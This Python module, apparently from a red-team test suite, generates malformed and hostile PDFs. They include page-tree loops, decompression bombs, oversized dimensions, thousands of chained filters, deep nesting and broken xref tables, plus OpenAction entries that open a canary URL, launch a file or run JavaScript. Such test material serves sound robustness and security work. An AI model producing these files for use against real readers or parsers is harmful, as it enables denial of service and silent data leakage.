"""PDFs that do their worst, object by object."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Sequence

from ondol.lab.redteam.documents.secret import MEGABYTE, Made, Secret

Part = str | bytes | tuple[bytes, str]
"""An object; a stream's bytes; a stream's bytes with more entries of its dictionary."""


def portable(secret: Secret) -> Iterator[Made]:
    """PDFs whose pages, outlines and streams go round in circles, or unpack to far more."""
    loop = "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"
    huge = "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>"
    giant = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Contents 4 0 R>>"
    tree = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
    words = b"BT /F1 12 Tf 72 700 Td (x) Tj ET"
    bomb = zlib.compress(bytes(80 * MEGABYTE), 9)
    layers = zlib.compress(zlib.compress(zlib.compress(bytes(40 * MEGABYTE), 9), 9), 9)
    action = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({secret.url}/pdf)>>>>"
    launch = f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F({secret.path})>>>>"
    opening = f"<</S/JavaScript/JS(app.openDoc('{secret.path}'))>>"
    script = f"<</Type/Catalog/Pages 2 0 R/OpenAction{opening}>>"
    catalog = "<</Type/Catalog/Pages 2 0 R>>"
    outlines = "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>"
    inside = "/Resources<</XObject<</X 4 0 R>>>>"
    form = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R{inside}>>"
    drawn = b"/X Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{inside}"
    files: dict[str, list[Part]] = {
        "loop": [catalog, loop, page, words],
        "count": [catalog, huge, page, words],
        "size": [catalog, tree, giant, words],
        "bomb": [catalog, tree, page, (bomb, "/Filter/FlateDecode")],
        "layers": [catalog, tree, page, (layers, "/Filter[" + "/FlateDecode" * 3 + "]")],
        "filters": [catalog, tree, page, (words, "/Filter[" + "/ASCIIHexDecode" * 5000 + "]")],
        "uri": [action, tree, page, words],
        "launch": [launch, tree, page, words],
        "script": [script, tree, page, words],
        "outlines": [outlines, tree, page, "<</First 4 0 R/Next 4 0 R/Title(x)>>"],
        "form": [catalog, tree, form, drawn],
        "itself": ["1 0 R", tree, page, words],
        "deep": ["[" * 100_000 + "]" * 100_000, tree, page, words],
    }
    for name, objects in files.items():
        yield f"{name}.pdf", pdf(objects)
    whole = pdf([catalog, tree, page, words])
    yield "xref.pdf", whole.replace(b"startxref\n", b"startxref\n99999999999")
    yield "cut.pdf", whole[: len(whole) // 2]


def pdf(objects: Sequence[Part]) -> bytes:
    """A PDF of these objects, numbered from one; bytes are a stream."""
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        if not isinstance(one, str):
            data, more = one if isinstance(one, tuple) else (one, "")
            head = f"<</Length {len(data)}{more}>>\nstream\n".encode()
            content = head + data + b"\nendstream"
        else:
            content = one.encode()
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, start)
    return out + b"%%EOF\n"
